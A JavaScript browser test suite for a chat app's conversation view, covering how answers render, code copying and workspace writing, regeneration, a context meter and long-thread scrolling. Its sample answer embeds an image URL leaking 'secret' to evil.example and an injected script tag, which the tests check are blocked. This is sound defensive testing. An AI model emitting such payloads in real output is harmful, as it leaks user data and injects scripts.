// How a conversation is shown: what answers are made of, and how much of it.
// The server's part is played by the page's own routes, so that every text is
// known; a long thread comes from the platform itself.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { after, before, test } from "node:test";
import { promisify } from "node:util";
import { assertSound, callAPI, launch, looks, newPage } from "./browser.mjs";
import * as steps from "./steps.mjs";

const run = promisify(execFile);

let browser;
let state;

before(async () => {
  browser = await launch();
  const page = await newPage(browser);
  await steps.register(page);
  state = await page.context().storageState();
  await page.context().close();
});

after(() => browser?.close());

const id = "01900000-0000-7000-8000-000000000000";

/** The messages of a conversation: texts, question and answer by turns, with what is special about some. */
function messagesOf(texts, special = {}) {
  return texts.map((content, n) => ({
    id: `m${n}`,
    conversationId: id,
    parentId: n === 0 ? "" : `m${n - 1}`,
    role: n % 2 === 0 ? "user" : "assistant",
    content,
    status: "complete",
    model: "",
    createdAt: "2026-01-01T00:00:00Z",
    usage: null,
    metadata: null,
    unreadable: false,
    ...special[n],
  }));
}

/** A page on a conversation with the given messages; answers may replace what the API says. */
async function conversation(messages, look = {}, answers = {}) {
  const page = await newPage(browser, { ...look, storageState: state });
  const head = messages.at(-1)?.id ?? "";
  const now = new Date().toISOString();
  const known = {
    "": { id, title: "Known", createdAt: now, updatedAt: now, model: "", headMessageId: head },
    "/context": { contextWindow: 0 },
    ...answers,
  };
  for (const [path, json] of Object.entries(known)) {
    await page.route(`**/api/chat/conversations/${id}${path}`, (route) => route.fulfill({ json }));
    await page.route(`**/api/chat/conversations/${id}${path}?*`, (route) =>
      route.fulfill({ json }),
    );
  }
  await page.route(`**/api/chat/conversations/${id}/messages?*`, (route) => {
    const query = new URL(route.request().url()).searchParams;
    const end = Number(query.get("pageToken") || messages.length);
    const start = Math.max(0, end - Number(query.get("pageSize")));
    const found = messages.slice(start, end).reverse();
    return route.fulfill({ json: { messages: found, nextPageToken: start ? String(start) : "" } });
  });
  page.shown = known[""];
  await page.goto(`/chat/${id}`);
  await page.getByRole("article", { name: "Assistant" }).last().waitFor();
  return page;
}

const rich = `Some **bold** words and a [link](https://example.org/).

| Tide | Height |
|---|---|
| high | 4.2 m |

\\[
\\int_0^1 x^2 dx
\\]

The area is \\(\\pi r^2\\), and $r$ is the radius; it costs $5 or $6.

\`\`\`mermaid
flowchart LR
  A[Sea] --> B[Shore]
\`\`\`

\`\`\`go
func main() { println("a line that is long enough to leave the block of code on any screen, and then some more") }
\`\`\`

![chart](https://evil.example/leak.png?q=secret)

<img src="https://evil.example/raw.png"><script>window.hacked = true</script>
`;

for (const look of looks) {
  const label = `${look.colorScheme}, ${look.viewport.width} px`;
  test(`an answer shows tables, formulas, diagrams and code (${label})`, async () => {
    const page = await conversation(messagesOf(["Show me everything", rich]), look);
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    const answer = steps.lastAnswer(page);
    await answer.getByRole("table").waitFor();
    await answer.locator(".katex-display").waitFor();
    assert.equal(await answer.locator(".katex").count(), 3, "formulas");
    await answer.getByRole("img", { name: "Diagram" }).waitFor();
    await answer.locator(".code-token[style]").first().waitFor();
    await answer.getByText("Image from evil.example, not loaded by itself").waitFor();
    assert.deepEqual(await answer.locator("img, script").count(), 0);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.deepEqual(
      asked.filter((url) => url.includes("evil.example")),
      [],
    );
    await assertSound(page, `a rich answer (${label})`);
    await page.context().close();
  });
}

test("code is copied, and its long lines are broken on request", async () => {
  const page = await conversation(messagesOf(["Code?", rich]), {
    permissions: ["clipboard-read", "clipboard-write"],
  });
  await page.getByRole("button", { name: "Copy code" }).last().click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(copied.startsWith("func main()"));
  const block = page.locator("pre").last();
  const sideways = () => block.evaluate((pre) => pre.scrollWidth > pre.clientWidth);
  assert.equal(await sideways(), true);
  await page.getByRole("button", { name: "Wrap lines" }).last().click();
  assert.equal(await sideways(), false);
  await page.context().close();
});

test("code becomes a file of a workspace", async () => {
  const page = await conversation(messagesOf(["Code?", rich]));
  const { body: made } = await callAPI(page, "POST", "/api/ide/workspaces", { name: "atlas" });
  await page.getByRole("button", { name: "Open in workspace" }).last().click();
  const dialog = page.getByRole("dialog", { name: "Open in workspace" });
  await dialog.getByLabel("Workspace").selectOption(made.id);
  await dialog.getByLabel("File").fill("../outside.go");
  await dialog.getByText("The name of a file, with / between folders.").waitFor();
  await dialog.getByLabel("File").fill("src/tide.go");
  await assertSound(page, "the dialog that writes code to a file");
  const content = `/api/ide/workspaces/${made.id}/files/content?path=src/tide.go`;
  const written = () => page.evaluate((url) => fetch(url).then((r) => r.text()), content);
  await dialog.getByRole("button", { name: "Write and open" }).click();
  await page.waitForURL(new RegExp(`/ide/workspace/${made.id}`));
  assert.match(await written(), /^func main\(\) /);

  await page.goto(`/chat/${id}`);
  await page.getByRole("button", { name: "Open in workspace" }).last().click();
  await dialog.getByLabel("File").fill("src/tide.go");
  await dialog.getByRole("button", { name: "Write and open" }).click();
  await dialog.getByText("This file exists already.").waitFor();
  await dialog.getByRole("button", { name: "Replace and open" }).waitFor();
  await page.context().close();
});

/** Plays the server's part of one more answer to the first question. */
async function answerAgain(page) {
  const asked = [];
  await page.route("**/api/chat/messages/m1/regenerate", (route) => {
    asked.push(route.request().postDataJSON());
    page.shown.headMessageId = "m1b";
    const [, first] = messagesOf(["", "Better."]);
    const message = { ...first, id: "m1b", parentId: "m0" };
    const events = [
      ["start", { assistantMessage: { ...message, content: "", status: "streaming" } }],
      ["delta", { text: "Better." }],
      ["done", { message }],
    ];
    const lines = events.map(
      ([name, data], n) => `id: ${n + 1}\nevent: ${name}\ndata: ${JSON.stringify(data)}\n\n`,
    );
    return route.fulfill({ contentType: "text/event-stream", body: lines.join("") });
  });
  return asked;
}

test("an answer that failed says why, and is tried again", async () => {
  const metadata = { errorMessage: "The provider is overloaded.", requestId: "01abc" };
  const page = await conversation(
    messagesOf(["Well?", "Half an"], { 1: { status: "error", metadata } }),
  );
  const answer = steps.lastAnswer(page);
  await answer.getByText("The provider is overloaded.").waitFor();
  await answer.getByText("Request 01abc").waitFor();
  await assertSound(page, "an answer that failed");
  await answerAgain(page);
  await answer.getByRole("button", { name: "Retry" }).click();
  await answer.getByText("Better.").waitFor();
  await page.getByText("Version 2 of 2").waitFor({ state: "attached" });
  await page.context().close();
});

test("an answer is given again by another model", async () => {
  const models = ["one", "two"].map((name) => ({
    id: name,
    provider: "anthropic",
    displayName: `Model ${name}`,
    contextWindow: 200_000,
    inputUsdPerMTok: 3,
    outputUsdPerMTok: 15,
    default: name === "one",
  }));
  const other = await conversation(messagesOf(["Well?", "So so."]));
  await other.route("**/api/ai/models", (route) => route.fulfill({ json: { models } }));
  await other.reload();
  const asked = await answerAgain(other);
  await other.getByRole("button", { name: "Regenerate with another model" }).click();
  await other.getByRole("menuitem", { name: /Model two/ }).click();
  await steps.lastAnswer(other).getByText("Better.").waitFor();
  assert.deepEqual(asked, [{ model: "two" }]);
  await other.context().close();
});

test("how full the model's window is, and what it knows as a summary, is shown", async () => {
  const context = {
    model: "demo",
    contextWindow: 200_000,
    usedTokens: 50_000,
    estimated: true,
    summarizeAboveTokens: 140_000,
    summarizedMessages: 2,
    summarizedUntilMessageId: "m1",
    summary: "They spoke of **tides**.",
    omittedMessages: 0,
  };
  for (const look of looks.slice(0, 2)) {
    const texts = ["Tides?", "The moon.", "And now?", "Now you know."];
    const page = await conversation(messagesOf(texts), look, { "/context": context });
    const meter = page.getByRole("meter", { name: /about 50,000 of the 200,000 tokens/ });
    assert.equal(await meter.getAttribute("aria-valuenow"), "25");
    await page.getByText("The 2 messages above are known to the model as a summary.").waitFor();
    await page.getByRole("button", { name: "Show summary" }).click();
    await page.locator("strong", { hasText: "tides" }).waitFor();
    await assertSound(page, "a conversation with a summary");
    await page.context().close();
  }
});

/** Notes when a text first appears in the page, in milliseconds since the navigation. */
function noteWhenShown(text) {
  new MutationObserver((_, observer) => {
    if (!document.body?.textContent.includes(text)) return;
    requestAnimationFrame(() => requestAnimationFrame((now) => (window.shownAt = now)));
    observer.disconnect();
  }).observe(document, { childList: true, subtree: true });
}

/** Counts frames and elements while something is done; resolves with what a person would feel. */
async function frames(page, act) {
  await page.evaluate(() => {
    const seen = { gaps: [], most: 0, before: performance.now() };
    const tick = (now) => {
      seen.gaps.push(now - seen.before);
      seen.before = now;
      seen.most = Math.max(seen.most, document.all.length);
      seen.timer = requestAnimationFrame(tick);
    };
    seen.timer = requestAnimationFrame(tick);
    window.seenFrames = seen;
  });
  await act();
  const { gaps, most } = await page.evaluate(() => {
    cancelAnimationFrame(window.seenFrames.timer);
    return window.seenFrames;
  });
  gaps.sort((one, other) => one - other);
  const at = (share) => Math.round(gaps[Math.floor(share * (gaps.length - 1))]);
  const felt = `${gaps.length} frames, median ${at(0.5)} ms, p95 ${at(0.95)} ms, longest ${at(1)} ms`;
  return { felt, most, usual: at(0.5) };
}

/** Opens a conversation a few times; resolves with when its last message was shown, in milliseconds. */
async function openings(browser, address, last) {
  const page = await newPage(browser, { storageState: state });
  await page.addInitScript(noteWhenShown, last);
  const opened = [];
  for (let n = 0; n < 4; n++) {
    await page.goto(address);
    const shown = await page.waitForFunction(() => window.shownAt);
    opened.push(Math.round(await shown.jsonValue()));
  }
  await page.context().close();
  return opened;
}

const longThread = process.env.ATRIUM_JOURNEY_LONGTHREAD;

test("a thread of 10,000 messages opens at its end and scrolls to its beginning", {
  skip: longThread ? false : "needs tools/journey.sh, which can write one",
  timeout: 240_000,
}, async (t) => {
  const page = await newPage(browser, { storageState: state });
  await page.goto("/chat");
  const { body: me } = await callAPI(page, "GET", "/api/users/me");
  const write = async (...more) => {
    const { stdout } = await run(longThread, [
      "-data",
      process.env.ATRIUM_DATA_DIR,
      "-user",
      me.id,
      ...more,
    ]);
    return `/chat/${stdout.trim()}`;
  };
  const short = await openings(browser, await write("-messages", "20"), "Answer 19.");
  const address = await write();
  const opened = await openings(browser, address, "Answer 9999.");
  const told = `its last message is shown after ${opened.join(", ")} ms, that of 20 messages after ${short.join(", ")} ms`;
  t.diagnostic(told);
  // A machine with others at work is slow with any conversation.
  assert.ok(Math.min(...opened) < Math.max(1_000, 1.5 * Math.min(...short)), told);
  await page.goto(address);
  await page.getByText("Answer 9999.").waitFor();

  const rows = page.getByRole("article");
  const elements = () => page.evaluate(() => document.all.length);
  const atFirst = await elements();
  assert.ok((await rows.count()) < 40, "only messages in view are in the document");
  await page.getByRole("region", { name: "Messages" }).hover();
  const wheel = (by, turns) => async () => {
    for (let turn = 0; turn < turns; turn++) {
      await page.mouse.wheel(0, by);
      await page.waitForTimeout(30);
    }
  };
  const back = await frames(page, wheel(-1_500, 60));
  t.diagnostic(`scrolling back, with earlier ones coming: ${back.felt}`);

  const began = Date.now();
  const first = page.getByText("Question 0:");
  const toTheTop = () =>
    page.getByRole("region", { name: "Messages" }).evaluate((box) => {
      box.scrollTop = 0;
    });
  const home = await frames(page, async () => {
    for (let turn = 0; turn < 1_000 && (await first.count()) === 0; turn++) {
      await toTheTop();
      await page.waitForTimeout(30);
    }
  });
  t.diagnostic(`its beginning is there after ${Date.now() - began} ms: ${home.felt}`);
  await toTheTop();
  await first.waitFor();
  const still = await frames(page, () => page.waitForTimeout(1_000));
  const on = await frames(page, wheel(1_500, 60));
  t.diagnostic(`scrolling on, with all 10,000 loaded: ${on.felt}`);
  const smooth = Math.max(20, 1.5 * still.usual);
  assert.ok(Math.min(back.usual, on.usual) <= smooth, `frames while nothing moves: ${still.felt}`);
  for (const { most } of [back, home, on])
    assert.ok(most < atFirst + 1_500, `${most} elements while scrolling, ${atFirst} before`);
  assert.ok((await rows.count()) < 40, "still only messages in view are in the document");
  await page.getByRole("button", { name: "Jump to latest" }).click();
  await page.getByText("Answer 9999.").waitFor();
  assert.deepEqual(page.faults, []);
  await page.context().close();
});
